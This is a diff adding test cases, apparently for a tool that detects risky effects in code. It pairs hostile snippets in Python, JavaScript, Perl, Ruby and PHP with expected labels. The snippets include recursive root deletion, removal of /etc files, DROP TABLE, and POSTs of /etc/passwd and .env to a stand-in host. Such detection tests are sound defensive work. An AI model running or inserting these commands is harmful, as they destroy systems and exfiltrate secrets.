@@ -22,6 +22,51 @@ test.each(deletesRoot)('a %s program that deletes the root is read as that: %s',
   expect(linesOf(language, text)).toContain('delete / recursive')
 })
 
+const reads: readonly (readonly [string, string, string])[] = [
+  ['python', `os.remove('/etc/hosts')`, 'delete /etc/hosts'],
+  ['python', `subprocess.run(args=['rm', '-rf', '/'])`, 'delete / recursive'],
+  ['python', `cmd = ['rm']\ncmd.append('-rf')\ncmd.extend(['/'])\nsubprocess.run(cmd)`, 'delete / recursive'],
+  ['python', `subprocess.run('rm -rf /'.split())`, 'delete / recursive'],
+  ['python', `for p in Path('/').rglob('*'): p.unlink()`, 'delete root //*'],
+  ['python', `open('/etc/motd', 'w').write('x')`, 'write /etc/motd literal'],
+  [
+    'python',
+    `requests.post('http://a.example', files={'f': open('/etc/passwd')})`,
+    'connect http a.example POST file',
+  ],
+  ['python', `urllib.request.urlopen('https://a.example/x')`, 'connect https a.example GET'],
+  ['python', `eval("os.system('rm -rf /')")`, 'delete / recursive'],
+  ['python', `cursor.execute("DROP TABLE users")`, 'database DROP TABLE'],
+  ['javascript', `require('fs').rmSync('/etc/x')`, 'delete /etc/x'],
+  ['javascript', `import { exec } from 'child_process'; exec('rm -rf /')`, 'delete / recursive'],
+  ['javascript', `require('child_process').spawn('rm', ['-rf', '/'])`, 'delete / recursive'],
+  [
+    'javascript',
+    `fetch('http://a.example', { method: 'POST', body: fs.readFileSync('.env') })`,
+    'connect http a.example POST file',
+  ],
+  ['javascript', `Deno.remove('/', { recursive: true })`, 'delete / recursive'],
+  ['javascript', 'await Bun.$`rm -rf /`', 'delete / recursive'],
+  ['perl', `open(F, "|rm -rf /")`, 'delete / recursive'],
+  ['perl', 'print `rm -rf /`', 'delete / recursive'],
+  ['perl', `unlink '/etc/hosts'`, 'delete /etc/hosts'],
+  ['ruby', '`rm -rf /`', 'delete / recursive'],
+  ['ruby', `Kernel.send(:system, 'rm -rf /')`, 'delete / recursive'],
+  ['ruby', `File.delete('/etc/hosts')`, 'delete /etc/hosts'],
+  [
+    'ruby',
+    `Net::HTTP.post(URI('http://a.example'), File.read('/etc/passwd'))`,
+    'connect http a.example POST file',
+  ],
+  ['php', `exec('rm -rf /');`, 'delete / recursive'],
+  ['php', `array_map('unlink', glob('/etc/*'));`, 'delete system-root /etc/*'],
+  ['php', `file_put_contents('/etc/motd', 'x');`, 'write /etc/motd literal'],
+]
+
+test.each(reads)('%s: %s is read', (language, text, line) => {
+  expect(linesOf(language, text)).toContain(line)
+})
+
 test('a program that prints, computes and matches does nothing risky', () => {
   expect(linesOf('python', `import re, json\nre.compile('x')\nmodel.eval()\nprint(json.dumps({}))`)).toEqual(
     [],
